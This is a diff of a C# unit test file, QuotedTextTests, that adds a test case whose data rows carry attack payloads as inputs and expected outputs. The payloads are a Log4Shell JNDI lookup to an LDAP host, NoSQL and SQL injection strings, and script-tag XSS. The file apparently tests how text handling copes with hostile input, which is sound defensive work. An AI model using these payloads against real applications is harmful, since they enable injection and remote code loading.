@@ -25,6 +25,7 @@ public class QuotedTextTests
     [InlineData(Log, "{\"message\": \"${jndi:ldap://192.0.2.4/a}\"}")]
     [InlineData("{\"title\": \"everything about the operators of this database\"}", "{\"title\": \"everything about the operators of this database\", \"password\": {\"$ne\": \"\"}}")]
     [InlineData("text=Seen+again%3A%0A%0A++<script>alert(1)</script>%0Aplease+look", "text=Seen+again%3A++<script>alert(1)</script>+please+look")]
+    [InlineData("text=Postmortem%0A%0A++<script>alert(1)</script>%0Aand+more", "text=%3C%3E%0A%0A++<script>alert(1)</script>%0Aand+more")]
     [InlineData("{\"body\": \"How to reproduce\\n\\nid=1' union select 1,2 --\\nthen see\"}", "{\"body\": \"1' union select 1,2 --\\nHow to reproduce\\nthen see\"}")]
     [InlineData("text=How+to+reproduce%0D%0A'+or+'1'%3D'1%0D%0Athen+see", "text=How+to+reproduce%0D%0A1'+union%0D%0Aselect+1,2+--+%0D%0Athen+see")]
     [InlineData("{\"m\": \"203.0.113.9 - - [27/Nov/2026] \\\"GET /<script>alert(1)</script>", "{\"m\": \"203.0.113.9 - - [27/Nov/2026] <script>alert(1)</script>")]
